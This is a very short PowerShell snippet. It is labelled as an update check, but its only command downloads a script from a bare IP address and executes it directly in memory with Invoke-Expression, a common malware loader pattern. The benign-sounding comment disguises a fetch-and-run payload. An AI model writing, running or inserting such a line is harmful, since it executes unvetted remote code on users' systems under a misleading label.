# Update check
IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.8/a.ps1')
